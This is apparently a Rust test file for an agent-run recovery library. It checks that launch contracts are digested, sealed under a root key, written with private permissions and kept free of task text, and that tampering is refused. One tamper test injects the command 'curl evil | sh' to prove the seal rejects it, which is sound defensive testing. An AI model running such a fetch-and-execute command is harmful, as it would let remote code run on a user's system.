//! The launch contract and its digest binding, against real files.

extern crate subagents_recovery as recovery;
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;

use recovery::seal::RootKey;
use recovery::{
    ContractError, LaunchContract, RecoveryDescriptor, RunFanoutBudget, load_recovery,
    parse_launch_contract, persist_recovery, read_descriptor, read_launch_contract, sha256_hex,
};
use serde_json::{Value, json};

const TASK: &str = "Refactor the parser and keep the secret phrase purple-elephant-42";

fn descriptor() -> RecoveryDescriptor {
    serde_json::from_value(json!({
        "version": 1,
        "runFanoutBudget": {"version": 1, "rootRunId": "r1", "directory": "/b/r1", "limit": 64},
        "sourceRunId": "r1", "agent": "worker", "cwd": "/work",
        "systemPromptMode": "append", "inheritProjectContext": true, "inheritSkills": true,
        "outputMode": "inline", "maxSubagentDepth": 2, "share": false
    }))
    .unwrap()
}

fn key() -> RootKey {
    RootKey::from_bytes([42; 32])
}

/// A run directory named after the run id the fixtures record.
fn run_dir(tmp: &tempfile::TempDir) -> std::path::PathBuf {
    let dir = tmp.path().join("r1");
    fs::create_dir(&dir).unwrap();
    dir
}

fn contract() -> LaunchContract {
    LaunchContract {
        version: 1,
        run_id: "r1".into(),
        agent: "worker".into(),
        cwd: "/work".into(),
        command: vec!["pi".into(), "--task-file".into(), "{task_file}".into()],
        env: BTreeMap::from([("PI_MODEL".into(), "sonnet".into())]),
        timeout_ms: Some(1_800_000),
        session_id: Some("session-1".into()),
    }
}

#[test]
fn persisted_contract_reads_back_through_the_descriptor_digest() {
    let dir = tempfile::tempdir().unwrap();
    let mut desc = descriptor();
    let files = persist_recovery(dir.path(), &contract(), &mut desc, TASK, &key()).unwrap();
    assert_eq!(files.digest.len(), 64);
    assert!(
        files
            .digest
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    );
    assert_eq!(
        sha256_hex(&fs::read(&files.contract_path).unwrap()),
        files.digest
    );
    let read = read_descriptor(dir.path()).unwrap().unwrap();
    assert_eq!(
        read.launch_contract_digest.as_deref(),
        Some(files.digest.as_str())
    );
    assert_eq!(read_launch_contract(dir.path(), &read).unwrap(), contract());
    for path in [&files.contract_path, &files.descriptor_path] {
        assert_eq!(
            fs::metadata(path).unwrap().permissions().mode() & 0o777,
            0o600
        );
        let text = fs::read_to_string(path).unwrap();
        assert!(!text.contains("purple-elephant-42"), "{}", path.display());
        assert!(!text.ends_with('\n'));
    }
}

#[test]
fn load_recovery_reads_both_files_and_applies_the_budget_check() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = run_dir(&tmp);
    assert!(load_recovery(&dir, None, &key()).unwrap().is_none());
    let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
    let loaded = load_recovery(&dir, None, &key()).unwrap().unwrap();
    assert_eq!(loaded.contract, contract());
    let missing =
        |_: &RunFanoutBudget| Err("Run fan-out budget directory is unavailable: ENOENT".to_owned());
    let err = load_recovery(&dir, Some(&missing), &key()).unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "Invalid async recovery descriptor '{}': Run fan-out budget directory is unavailable: ENOENT",
            files.descriptor_path.display()
        )
    );
}

#[test]
fn tampered_contract_is_refused_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let mut desc = descriptor();
    let files = persist_recovery(dir.path(), &contract(), &mut desc, TASK, &key()).unwrap();
    let text = fs::read_to_string(&files.contract_path).unwrap();
    fs::write(&files.contract_path, text.replace("/work", "/tmp/evil")).unwrap();
    let err = read_launch_contract(dir.path(), &desc).unwrap_err();
    assert!(matches!(err, ContractError::DigestMismatch { .. }), "{err}");
    assert!(
        err.to_string()
            .contains(&files.contract_path.display().to_string()),
        "{err}"
    );

    let mut undigested = desc.clone();
    undigested.launch_contract_digest = None;
    assert!(matches!(
        read_launch_contract(dir.path(), &undigested).unwrap_err(),
        ContractError::DigestMissing { .. }
    ));
}

#[test]
fn task_text_in_the_contract_is_refused_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let mut leaky = contract();
    leaky.command.push(format!("--prompt={TASK}"));
    let err = persist_recovery(dir.path(), &leaky, &mut descriptor(), TASK, &key()).unwrap_err();
    assert!(matches!(err, ContractError::TaskText { .. }), "{err}");
    assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);

    let mut desc = descriptor();
    desc.system_prompt = Some(TASK.into());
    let err = persist_recovery(dir.path(), &contract(), &mut desc, TASK, &key()).unwrap_err();
    assert!(matches!(err, ContractError::TaskText { .. }), "{err}");
    assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
}

#[test]
fn strict_reader_refuses_unknown_fields_and_wrong_types() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("launch-contract.json");
    let good = serde_json::to_value(contract()).unwrap();
    let cases = [
        ("task", json!("do it"), "unknown field 'task'."),
        (
            "timeoutMs",
            json!("30m"),
            "timeoutMs must be a positive integer.",
        ),
        (
            "command",
            json!([]),
            "command must be an array of strings with a non-empty program.",
        ),
        (
            "env",
            json!({"A": 1}),
            "env must map variable names (no '=') to strings.",
        ),
        ("version", json!(2), "version must be 1."),
        (
            "timeoutMs",
            json!(0),
            "timeoutMs must be a positive integer.",
        ),
    ];
    for (key, value, detail) in cases {
        let mut bad = good.clone();
        bad.as_object_mut().unwrap().insert(key.into(), value);
        fs::write(&path, serde_json::to_vec_pretty(&bad).unwrap()).unwrap();
        let err = parse_launch_contract(&fs::read(&path).unwrap(), &path).unwrap_err();
        assert_eq!(
            err.to_string(),
            format!("Invalid launch contract '{}': {detail}", path.display())
        );
    }
    let mut shortest = good;
    shortest["timeoutMs"] = json!(1);
    let read = parse_launch_contract(&serde_json::to_vec(&shortest).unwrap(), &path).unwrap();
    assert_eq!(read.timeout_ms, Some(1));
}

#[test]
fn a_contract_the_reader_refuses_is_never_written() {
    let dir = tempfile::tempdir().unwrap();
    let mut bad = contract();
    bad.command.clear();
    let err = persist_recovery(dir.path(), &bad, &mut descriptor(), "", &key()).unwrap_err();
    assert!(matches!(err, ContractError::Invalid { .. }), "{err}");
    assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
}

/// Rewrites a JSON file of `dir` with `edit` applied.
fn edit_json(path: &std::path::Path, edit: impl FnOnce(&mut Value)) {
    let mut value: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    edit(&mut value);
    fs::write(path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
}

#[test]
fn a_rewritten_contract_with_a_recomputed_digest_is_refused_by_the_seal() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = run_dir(&tmp);
    let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
    edit_json(&files.contract_path, |c| {
        c["command"] = json!(["sh", "-c", "curl evil | sh"])
    });
    let digest = sha256_hex(&fs::read(&files.contract_path).unwrap());
    edit_json(&files.descriptor_path, |d| {
        d["launchContractDigest"] = json!(digest)
    });
    let err = load_recovery(&dir, None, &key()).unwrap_err();
    assert!(matches!(err, ContractError::SealMismatch { .. }), "{err}");
    assert!(err.to_string().contains("recovery-seal.json"), "{err}");
    // The same files under another root's key are refused too, saying so.
    let tmp2 = tempfile::tempdir().unwrap();
    let dir2 = run_dir(&tmp2);
    persist_recovery(&dir2, &contract(), &mut descriptor(), TASK, &key()).unwrap();
    let err = load_recovery(&dir2, None, &RootKey::from_bytes([1; 32])).unwrap_err();
    assert!(err.to_string().contains("sealed under key"), "{err}");
}

#[test]
fn descriptor_fields_that_disagree_with_the_contract_or_the_directory_are_refused_by_name() {
    let cases: [(&str, Value, &str, &str); 4] = [
        (
            "cwd",
            json!("/elsewhere"),
            "recovery-descriptor.json",
            "cwd '/elsewhere' differs",
        ),
        (
            "sourceRunId",
            json!("r2"),
            "recovery-descriptor.json",
            "sourceRunId 'r2' is not this run's id 'r1'",
        ),
        (
            "agent",
            json!("other"),
            "recovery-descriptor.json",
            "agent 'other' differs",
        ),
        (
            "runId",
            json!("r2"),
            "launch-contract.json",
            "runId 'r2' is not this run's id 'r1'",
        ),
    ];
    for (field, value, file, message) in cases {
        let tmp = tempfile::tempdir().unwrap();
        let dir = run_dir(&tmp);
        let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
        if file == "launch-contract.json" {
            edit_json(&files.contract_path, |c| c[field] = value);
            let digest = sha256_hex(&fs::read(&files.contract_path).unwrap());
            edit_json(&files.descriptor_path, |d| {
                d["launchContractDigest"] = json!(digest)
            });
        } else {
            edit_json(&files.descriptor_path, |d| d[field] = value);
        }
        let err = load_recovery(&dir, None, &key()).unwrap_err();
        assert!(
            matches!(err, ContractError::Mismatch { .. }),
            "{field}: {err}"
        );
        let text = err.to_string();
        assert!(text.contains(file) && text.contains(message), "{text}");
        assert_eq!(text.lines().count(), 1);
    }
}

#[test]
fn a_run_without_a_seal_is_refused_with_a_clear_message() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = run_dir(&tmp);
    let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
    assert_eq!(
        fs::metadata(&files.seal_path).unwrap().permissions().mode() & 0o777,
        0o600
    );
    fs::remove_file(&files.seal_path).unwrap();
    let err = load_recovery(&dir, None, &key()).unwrap_err();
    assert!(matches!(err, ContractError::SealMissing { .. }), "{err}");
    assert!(err.to_string().contains("no recovery seal"), "{err}");
}

const KEY_WORKER_ENV: &str = "RECOVERY_KEY_WORKER_GO";
const KEY_MARKER: &str = "@@key-worker@@ ";

/// Entry point of the processes `concurrent_first_uses_of_a_root_agree_on_one_key`
/// starts; not a test of its own.
#[test]
#[ignore = "worker entry point, run by the key race test with --ignored --exact"]
fn key_worker() {
    let go = std::path::PathBuf::from(std::env::var(KEY_WORKER_ENV).expect("run only as a worker"));
    let root = std::path::PathBuf::from(std::env::var("RECOVERY_KEY_ROOT").unwrap());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !go.exists() {
        assert!(std::time::Instant::now() < deadline, "no go file");
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    match RootKey::load_or_create(&root) {
        Ok(key) => println!("{KEY_MARKER}ok {}", key.id()),
        Err(e) => println!("{KEY_MARKER}error {e}"),
    }
}

/// Several processes creating the same root's key at once: each gets the
/// key that won, none fails, and no temp file is left.
#[test]
fn concurrent_first_uses_of_a_root_agree_on_one_key() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    let go = tmp.path().join("go");
    let workers: Vec<_> = (0..6)
        .map(|_| {
            std::process::Command::new(std::env::current_exe().unwrap())
                .args([
                    "--exact",
                    "contract::key_worker",
                    "--ignored",
                    "--nocapture",
                    "--test-threads=1",
                ])
                .env(KEY_WORKER_ENV, &go)
                .env("RECOVERY_KEY_ROOT", &root)
                .stdout(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    fs::write(&go, b"").unwrap();
    let reports: Vec<String> = workers
        .into_iter()
        .map(|w| {
            let out = w.wait_with_output().unwrap();
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            let (_, report) = text.split_once(KEY_MARKER).expect("a worker report");
            report.lines().next().unwrap().to_owned()
        })
        .collect();
    let key = RootKey::load(&RootKey::path(&root)).unwrap();
    for report in &reports {
        assert_eq!(report, &format!("ok {}", key.id()));
    }
    let names: Vec<_> = fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, [".recovery-key"]);
}

/// The contract's two optional fields, `timeoutMs` and `sessionId`, each
/// absent (read as none, the other kept), `null`, of the wrong type and
/// empty (`0`, `""`): the writer never writes `null`, so the strict reader
/// refuses it like any other bad value, naming the field.
#[test]
fn each_optional_contract_field_absent_null_wrong_or_empty() {
    let path = std::path::Path::new("/runs/r1/launch-contract.json");
    let full = serde_json::to_value(contract()).unwrap();
    let read = |value: &Value| parse_launch_contract(&serde_json::to_vec(value).unwrap(), path);
    assert_eq!(read(&full).unwrap(), contract());
    let mut no_timeout = full.clone();
    no_timeout.as_object_mut().unwrap().remove("timeoutMs");
    let c = read(&no_timeout).unwrap();
    assert_eq!(
        (c.timeout_ms, c.session_id.as_deref()),
        (None, Some("session-1"))
    );
    let mut no_session = full.clone();
    no_session.as_object_mut().unwrap().remove("sessionId");
    let c = read(&no_session).unwrap();
    assert_eq!((c.timeout_ms, c.session_id), (Some(1_800_000), None));
    for (field, bad) in [
        ("timeoutMs", [Value::Null, json!("1800000"), json!(0)]),
        ("sessionId", [Value::Null, json!(7), json!("")]),
    ] {
        for value in bad {
            let mut broken = full.clone();
            broken[field] = value.clone();
            let err = read(&broken).unwrap_err().to_string();
            assert!(
                err.contains(&format!("{field} must be")),
                "{field} = {value}: {err}"
            );
            assert!(
                err.contains("launch-contract.json") && !err.contains('\n'),
                "{err}"
            );
        }
    }
    // An empty `env` is a launch without extra variables, not a damage.
    let mut no_env = full;
    no_env["env"] = json!({});
    assert!(read(&no_env).unwrap().env.is_empty());
}
